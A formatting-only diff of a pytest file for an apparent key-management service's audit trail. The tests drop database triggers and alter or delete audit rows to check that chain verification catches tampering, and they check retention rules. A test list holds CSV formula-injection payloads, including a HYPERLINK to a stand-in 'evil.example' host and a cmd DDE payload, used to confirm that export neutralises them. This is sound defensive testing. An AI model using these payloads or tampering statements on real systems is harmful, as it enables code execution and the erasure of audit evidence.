@@ -39,8 +39,13 @@ def flip_byte(path: Path, offset: int) -> Path:
 
 
 def verify_export(*args: str | Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "kma", "audit", "verify", *map(str, args)],
-                          capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+    return subprocess.run(
+        [sys.executable, "-m", "kma", "audit", "verify", *map(str, args)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
 
 
 def test_a_changed_event_is_found_by_verify_which_names_it(fresh_kma: RunningKma) -> None:
@@ -48,8 +53,11 @@ def test_a_changed_event_is_found_by_verify_which_names_it(fresh_kma: RunningKma
     assert auditor.verify_audit_chain().intact
     target = auditor.list_audit_events(operation="key.destroy", limit=1).items[0]
 
-    tamper(fresh_kma, "DROP TRIGGER audit_events_no_update",
-           f"UPDATE audit_events SET message = 'nothing happened here' WHERE id = {target.id}")
+    tamper(
+        fresh_kma,
+        "DROP TRIGGER audit_events_no_update",
+        f"UPDATE audit_events SET message = 'nothing happened here' WHERE id = {target.id}",
+    )
 
     report = auditor.verify_audit_chain()
     assert not report.intact
@@ -63,8 +71,9 @@ def test_a_changed_event_is_found_by_verify_which_names_it(fresh_kma: RunningKma
 def test_a_removed_event_is_found_by_verify(fresh_kma: RunningKma) -> None:
     auditor = fresh_kma.client("auditor")
     target = auditor.list_audit_events(operation="key.compromise", limit=1).items[0]
-    tamper(fresh_kma, "DROP TRIGGER audit_events_no_delete",
-           f"DELETE FROM audit_events WHERE id = {target.id}")
+    tamper(
+        fresh_kma, "DROP TRIGGER audit_events_no_delete", f"DELETE FROM audit_events WHERE id = {target.id}"
+    )
     report = auditor.verify_audit_chain()
     assert not report.intact
     assert report.first_bad_event_id == target.id + 1  # the one after the gap
@@ -105,8 +114,14 @@ def test_an_export_is_not_called_verified_without_a_ca_to_trust(demo_kma: Runnin
     assert demo_kma.fingerprint in untrusted.stderr
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
-            "-2+3", "\tleading tab", "'already quoted"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x","click")',
+    "@SUM(A1:A9)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\tleading tab",
+    "'already quoted",
+]
 
 
 def test_csv_export_neutralises_formulas_and_still_verifies(fresh_kma: RunningKma, tmp_path: Path) -> None:
@@ -136,8 +151,9 @@ def test_csv_export_neutralises_formulas_and_still_verifies(fresh_kma: RunningKm
     assert f"{len(rows)} events, each event's hash recomputed and matching" in ok.stdout
 
 
-def test_signed_report_states_the_chain_result_and_verifies_offline(demo_kma: RunningKma,
-                                                                    tmp_path: Path) -> None:
+def test_signed_report_states_the_chain_result_and_verifies_offline(
+    demo_kma: RunningKma, tmp_path: Path
+) -> None:
     auditor = demo_kma.client("auditor")
     report = auditor.audit_report(operation="key.destroy")
     assert report.chain.intact
@@ -183,8 +199,11 @@ def test_pruning_by_retention_keeps_verify_passing(fresh_kma: RunningKma) -> Non
     assert auditor.verify_audit_chain().intact
 
     # Below the checkpoint, a kept event is still protected, and so is the checkpoint itself.
-    tamper(fresh_kma, "DROP TRIGGER audit_events_no_update",
-           f"UPDATE audit_events SET entity_id = 'nobody' WHERE id = {first.id}")
+    tamper(
+        fresh_kma,
+        "DROP TRIGGER audit_events_no_update",
+        f"UPDATE audit_events SET entity_id = 'nobody' WHERE id = {first.id}",
+    )
     report = auditor.verify_audit_chain()
     assert not report.intact and report.first_bad_event_id == first.id
 
@@ -195,8 +214,11 @@ def test_a_removed_checkpoint_or_kept_event_below_it_breaks_verify(fresh_kma: Ru
     so.prune_audit_events()
     so.prune_audit_events()  # a second, newer checkpoint
     newest = auditor.list_audit_checkpoints()[0]
-    tamper(fresh_kma, "DROP TRIGGER audit_checkpoints_no_delete",
-           f"DELETE FROM audit_checkpoints WHERE id = {newest.id}")
+    tamper(
+        fresh_kma,
+        "DROP TRIGGER audit_checkpoints_no_delete",
+        f"DELETE FROM audit_checkpoints WHERE id = {newest.id}",
+    )
     assert auditor.verify_audit_chain().intact  # the older checkpoint still covers what was kept
 
     kept = auditor.list_audit_events(operation="key.destroy", limit=1).items[0]
@@ -225,9 +247,11 @@ def test_one_officer_cannot_shorten_retention_to_erase_history(fresh_kma: Runnin
     """Floors (long a year, medium 90 days, short 30 days) hold for everyone; above them, shortening
     is quorum-protected: alone, a Security Officer's shortening only waits for approval."""
     so, auditor, qm1 = fresh_kma.client("so"), fresh_kma.client("auditor"), fresh_kma.client("qm1")
-    for too_short, reason in [({"long": 2 * DAY}, "long retention period must be 1 y 0 d"),
-                              ({"medium": 30 * DAY}, "medium retention period must be 90 d"),
-                              ({"short": 7 * DAY}, "short retention period must be 30 d")]:  # fmt: skip
+    for too_short, reason in [
+        ({"long": 2 * DAY}, "long retention period must be 1 y 0 d"),
+        ({"medium": 30 * DAY}, "medium retention period must be 90 d"),
+        ({"short": 7 * DAY}, "short retention period must be 30 d"),
+    ]:
         with pytest.raises(ValidationFailed, match=reason):
             so.set_audit_retention(**too_short, credentials=creds(fresh_kma, "alice", "bob", "carol"))
     before = auditor.audit_retention()
@@ -251,8 +275,11 @@ def test_one_officer_cannot_shorten_retention_to_erase_history(fresh_kma: Runnin
 def test_pruning_refuses_a_broken_trail(fresh_kma: RunningKma) -> None:
     so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
     target = auditor.list_audit_events(operation="key.issue", limit=1).items[0]
-    tamper(fresh_kma, "DROP TRIGGER audit_events_no_update",
-           f"UPDATE audit_events SET message = 'x' WHERE id = {target.id}")
+    tamper(
+        fresh_kma,
+        "DROP TRIGGER audit_events_no_update",
+        f"UPDATE audit_events SET message = 'x' WHERE id = {target.id}",
+    )
     with pytest.raises(Conflict, match="does not verify"):
         so.prune_audit_events()
     refused = auditor.list_audit_events(operation="audit.prune", limit=1).items[0]
@@ -263,8 +290,11 @@ def test_an_altered_checkpoint_signature_is_reported(fresh_kma: RunningKma) -> N
     so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
     checkpoint = so.create_audit_checkpoint()[0]
     assert auditor.verify_audit_chain().checkpoints[0].id == checkpoint.id
-    tamper(fresh_kma, "DROP TRIGGER audit_checkpoints_no_update",
-           f"UPDATE audit_checkpoints SET retained_count = retained_count - 1 WHERE id = {checkpoint.id}")
+    tamper(
+        fresh_kma,
+        "DROP TRIGGER audit_checkpoints_no_update",
+        f"UPDATE audit_checkpoints SET retained_count = retained_count - 1 WHERE id = {checkpoint.id}",
+    )
     report = auditor.verify_audit_chain()
     assert not report.intact
     reason = report.reason or ""
